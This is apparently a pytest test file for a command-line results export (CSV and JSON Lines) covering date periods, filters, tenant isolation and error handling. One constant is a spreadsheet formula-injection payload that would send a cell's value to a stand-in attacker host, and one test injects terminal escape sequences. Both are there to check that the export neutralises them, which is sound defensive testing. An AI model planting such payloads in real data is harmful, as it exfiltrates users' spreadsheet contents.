"""`acuse results export`: every result of a period, as CSV that no spreadsheet runs or as JSON Lines."""

import threading
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ConnectionClosedError

from acuse import timestamps
from acuse.reten.activities import results
from acuse.reten.activities.model import Activity, Result, ResultStatus
from acuse.storage import dynamodb
from acuse.timestamps import Timestamp
from acuse_admin import exporting
from acuse_admin.exports import Period
from acuse_admin.exports import reten as exports
from acuse_admin.printable import printable
from local.world import World, submission
from tests.local.command_line.conftest import Acuse, Done, ended, rows
from tests.support.spreadsheets import cells_read_back, is_run_by_a_spreadsheet

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Ver")'
NOVEMBER = ("--from", "2026-11-01", "--to", "2026-12-01")


def exported(done: Done) -> list[dict[str, Any]]:
    """The lines of JSON Lines, whose number standard error told."""
    found = rows(done)
    assert done.stderr == f"Exported: {len(found)} results\n"
    return found


def table(text: str) -> list[dict[str, str]]:
    [head, *lines] = cells_read_back(text)
    return [dict(zip(head, line, strict=True)) for line in lines]


@pytest.fixture
def report(world: World, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Activity]:
    """Registers a result at a time, for an activity that was created then unless there is one."""

    def register(moment: str, activity: Activity | None = None, **members: Any) -> Activity:
        now = Timestamp(moment)
        reported = activity or world.new_activity(created_at=now)
        result = Result(
            id=str(uuid.uuid4()),
            created_at=now,
            occurred_at=now,
            type_code="SALE_COMPLETED",
            type_label="Venta completada",
            **{"status": ResultStatus.EFFECTIVE} | members,
        )
        with monkeypatch.context() as then:
            then.setattr(timestamps, "now", lambda: now)
            results.register(world.tenant, reported.id, result, commerce="COM-001", override=activity is not None)
        return reported

    return register


def test_a_result_is_exported_with_activity_commerce_operator_and_type(acuse: Acuse, world: World) -> None:
    activity = world.new_activity(provider_activity_id="P-1", channel="VISIT")
    sent = submission(activity) | {"raw_payload": {"n": 1.50}}
    answer = world.submit(sent).json()
    [line] = exported(acuse("results", "export"))
    [listed] = rows(acuse("activities", "list"))
    assert line == listed | {"commerce_name": "Almacén", "is_replaced": False}
    assert line["result"]["raw_payload"] == {"n": 1.5}
    [row] = table(acuse("results", "export", "--format", "csv").stdout)
    assert row == {
        "activity_id": activity.id,
        "provider_activity_id": "P-1",
        "activity_status": "COMPLETED",
        "channel": "VISIT",
        "scheduled_at": "",
        "commerce_external_id": "COM-001",
        "commerce_name": "Almacén",
        "result_id": answer["id"],
        "version": "1",
        "is_replaced": "false",
        "status": "EFFECTIVE",
        "external_status": "",
        "type_code": "SALE_COMPLETED",
        "type_label": "Venta completada",
        "type_is_positive": "true",
        "operator_external_id": "OP-042",
        "operator_name": "Carlos Pérez",
        "contact_type": "OUTBOUND",
        "comment": "Customer accepted renewal offer",
        "occurred_at": "2026-04-11T10:30:00.000Z",
        "created_at": answer["createdAt"],
        "future_scheduled_at": "",
    }


def test_a_period_begins_at_its_first_instant_and_ends_before_its_last(
    acuse: Acuse, report: Callable[..., Activity]
) -> None:
    moments = [
        "2026-10-31T23:59:59.999Z",
        "2026-11-01T00:00:00.000Z",
        "2026-11-30T23:59:59.999Z",
        "2026-12-01T00:00:00.000Z",
    ]
    reported = [report(moment).id for moment in moments]
    late = report("2026-01-05T10:00:00.000Z", status=ResultStatus.PENDING)
    report("2026-11-15T10:00:00.000Z", late)
    assert [each["id"] for each in exported(acuse("results", "export", *NOVEMBER))] == [late.id, *reported[1:3]]
    in_bogota = ("--from", "2026-10-31T18:59:59.999-05:00", "--to", "2026-11-01T00:00:00Z")
    assert [each["id"] for each in exported(acuse("results", "export", *in_bogota))] == [reported[0]]
    assert len(exported(acuse("results", "export", "--from", "2026-12-01"))) == 1
    assert len(exported(acuse("results", "export", "--to", "2026-02-01"))) == 1
    assert len(exported(acuse("results", "export", "--to", "9999-12-31"))) == 6


def test_an_activity_that_a_clock_ahead_created_after_its_result_is_found(
    acuse: Acuse, world: World, report: Callable[..., Activity]
) -> None:
    imported = world.new_activity(created_at=Timestamp("2026-12-01T09:00:00.000Z"))
    report("2026-11-30T23:00:00.000Z", imported)
    assert [each["id"] for each in exported(acuse("results", "export", *NOVEMBER))] == [imported.id]


def test_replaced_results_are_among_them_unless_left_out(acuse: Acuse, report: Callable[..., Activity]) -> None:
    activity = report("2026-10-02T00:00:00.000Z", comment="October")
    report("2026-11-02T00:00:00.000Z", activity, comment="November")
    report("2026-11-03T00:00:00.000Z", activity, comment="November, again")
    report("2026-12-02T00:00:00.000Z", activity, comment="December")

    def told(*words: str) -> list[tuple[str, int, bool]]:
        found = exported(acuse("results", "export", *words))
        return [(each["result"]["comment"], each["result"]["version"], each["is_replaced"]) for each in found]

    assert told(*NOVEMBER) == [("November, again", 3, True), ("November", 2, True)]
    assert told("--from", "2026-11-03") == [("December", 4, False), ("November, again", 3, True)]
    assert told("--current") == [("December", 4, False)]
    assert told(*NOVEMBER, "--current") == []
    assert len(told()) == 4


def test_results_are_chosen_by_status(acuse: Acuse, report: Callable[..., Activity]) -> None:
    for day, status in enumerate(ResultStatus, start=1):
        report(f"2026-11-0{day}T00:00:00.000Z", status=status)

    def told(*words: str) -> list[str]:
        return [each["result"]["status"] for each in exported(acuse("results", "export", *words))]

    assert told("--status", "effective") == ["EFFECTIVE"]
    assert told("--status", "PENDING", "--status", "NOT_EFFECTIVE") == ["NOT_EFFECTIVE", "PENDING"]


def test_a_tenant_without_results_has_a_heading_alone(acuse: Acuse, world: World) -> None:
    world.new_activity()
    assert exported(acuse("results", "export")) == []
    done = acuse("results", "export", "--format", "csv")
    assert (done.stdout.count("\r\n"), table(done.stdout)) == (1, [])


def test_another_tenants_results_stay_there(acuse: Acuse, world: World, other: World) -> None:
    for each in (world, other):
        each.submit(submission(each.new_activity()))
    [line] = exported(acuse("results", "export"))
    assert line["id"] == world.activities()[0].id


def test_a_formula_in_a_comment_comes_out_harmless(acuse: Acuse, world: World, tmp_path: Path) -> None:
    body = submission(world.new_activity(), task_result__comment=FORMULA)
    assert world.submit(body).status_code == 201
    file = tmp_path / "results.csv"
    [summary] = rows(acuse("results", "export", "--output", str(file), "--bom"))
    assert summary == {"file": str(file), "records": 1}
    text = file.read_text(encoding="utf-8")
    assert text.startswith("\ufeffactivity_id,")
    assert f'"\'{FORMULA.replace('"', '""')}"' in text
    assert not any(is_run_by_a_spreadsheet(cell) for line in text.splitlines() for cell in line.split(";"))
    assert table(text)[0]["comment"] == FORMULA


def test_an_import_takes_the_activities_of_an_export_back(
    acuse: Acuse, world: World, other: World, tmp_path: Path
) -> None:
    done = world.new_activity(
        provider_activity_id="P-1", channel="VISIT", scheduled_at=Timestamp("2026-12-01T10:00:00.000Z")
    )
    world.submit(submission(done))
    world.submit(submission(done, hard_override=True))
    world.submit(submission(world.new_activity(), status="PENDING", task_result__result="NO_CONTACT"))
    file = tmp_path / "results.jsonl"
    rows(acuse("results", "export", "--output", str(file)))
    taken = acuse("activities", "import", str(file), "--tenant", other.tenant, tenant=False)
    [summary] = rows(taken)
    assert (summary["stored"], summary["present"], summary["refused"]) == (2, 1, 0)
    there = {each.id: each for each in other.activities()}
    for each in world.activities():
        copy = there[each.id]
        for name in ("provider_activity_id", "commerce_external_id", "status", "channel", "scheduled_at"):
            assert getattr(copy, name) == getattr(each, name)


def test_lines_on_a_terminal_are_no_commands_for_it(terminal: Acuse, world: World) -> None:
    body = submission(world.new_activity(), task_result__comment="a\x1b[31m\x9b2J\r\nz")
    assert world.submit(body).status_code == 201
    for form in exporting.Form:
        shown = terminal("results", "export", "--format", form).stdout
        assert all(printable(line) == line for line in shown.splitlines()), shown
        assert "x1b" in shown or "u001b" in shown


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--from", "yesterday"), "'--from': must be a day such as 2026-11-01"),
        (("--to", "2026-13-01"), "'--to': must be a day such as 2026-11-01"),
        (("--to", "2026-11-01T00:00:00"), "'--to': must be a day such as 2026-11-01"),
        (("--from", "2026-12-01", "--to", "2026-11-01"), "--from must be before --to"),
        (("--from", "2026-12-01", "--to", "2026-12-01"), "--from must be before --to"),
        (("--status", "DONE"), "--status"),
        (("--format", "xlsx"), "--format"),
        (("--output", ""), "--output must name a file"),
        (("--output", "/dev/full"), "--output must name a file"),
        (("--output", "missing/results.csv"), "missing/results.csv: No such file or directory"),
        (("--bom",), "--bom is for CSV: add --format csv"),
    ],
)
def test_a_wrong_argument_is_a_line_that_names_it(acuse: Acuse, words: tuple[str, ...], said: str) -> None:
    done = acuse("results", "export", *words)
    assert (done.returncode != 0, done.stdout, done.stderr.count("\n")) == (True, "", 1)
    assert said in done.stderr


@pytest.mark.parametrize("output", ["-", "results.csv"])
def test_a_database_that_goes_away_is_a_line_and_leaves_no_half_a_file(
    acuse: Acuse, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: str
) -> None:
    for _ in range(3):
        world.submit(submission(world.new_activity()))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(exports, "_BATCH", 1)
    working, asked = dynamodb.batch_get, iter(range(10))

    def fail_in_the_end(requests: Any) -> Any:
        if next(asked) < 4:
            return working(requests)
        raise ConnectionClosedError(endpoint_url="gone")

    monkeypatch.setattr(dynamodb, "batch_get", fail_in_the_end)
    done = acuse("results", "export", "--output", output)
    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
    assert "Database error" in done.stderr
    assert [each.name for each in tmp_path.iterdir()] == ["stdin"]


def test_a_reader_that_has_enough_hears_nothing_more(
    acuse: Acuse, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.submit(submission(world.new_activity()))

    def close(*_: object, **__: object) -> str:
        raise BrokenPipeError

    monkeypatch.setattr(exporting, "text_of", close)
    done = acuse("results", "export")
    assert (done.returncode, done.stderr) == (141, "")


def test_a_full_disk_is_a_line(world: World) -> None:
    world.submit(submission(world.new_activity()))
    status, said = ended(f"$acuse results export --tenant {world.tenant} > /dev/full")
    assert (status, said.splitlines()[-1]) == (1, "The output cannot be written: No space left on device")


def test_what_was_registered_before_an_export_is_in_it_while_others_write(acuse: Acuse, world: World) -> None:
    """Overrides, new activities and their results come in between; each earlier result is there once."""
    before = {}
    for _ in range(60):
        activity = world.new_activity()
        before[activity.id] = world.submit(submission(activity)).json()
    end = max(each["createdAt"] for each in before.values())
    is_over = threading.Event()

    def write() -> None:
        while not is_over.is_set():
            for activity_id in before:
                world.submit(submission(hard_override=True) | {"activity_id": activity_id})
                world.submit(submission(world.new_activity()))
                if is_over.is_set():
                    return

    writer = threading.Thread(target=write)
    writer.start()
    try:
        exports_made = [exported(acuse("results", "export")) for _ in range(3)]
    finally:
        is_over.set()
        writer.join()
    for lines in exports_made:
        earlier = [(each["id"], each["result"]["version"]) for each in lines if each["result"]["created_at"] <= end]
        firsts = [activity_id for activity_id, version in earlier if version == 1 and activity_id in before]
        assert sorted(firsts) == sorted(before)
        assert len(set(earlier)) == len(earlier)


def test_what_an_export_reads_is_counted(world: World) -> None:
    """A query a shard for 1,000 entries, two batch reads for 100 activities, a query for each that has history."""
    for number in range(5):
        activity = world.new_activity()
        world.submit(submission(activity))
        if number == 0:
            world.submit(submission(activity, hard_override=True))
    calls: list[str] = []
    client = dynamodb.connection().client
    client.meta.events.register("before-call.dynamodb", lambda model, **_: calls.append(model.name), "counted")
    try:
        found = [each for batch in exports.results_of(world.tenant, Period()) for each in batch.records]
    finally:
        client.meta.events.unregister("before-call.dynamodb", unique_id="counted")
    assert len(found) == 6
    assert sorted(calls) == ["BatchGetItem"] * 2 + ["Query"] * 17
